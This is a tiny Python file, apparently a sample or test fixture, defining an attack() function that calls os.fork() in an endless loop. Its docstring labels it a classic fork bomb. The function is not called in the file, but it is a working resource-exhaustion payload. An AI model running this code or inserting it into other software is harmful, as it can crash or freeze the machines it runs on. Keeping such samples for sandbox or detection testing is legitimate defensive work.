# ruff: noqa
"""The classic fork bomb, through os.fork."""

import os


def attack():
    while True:
        os.fork()
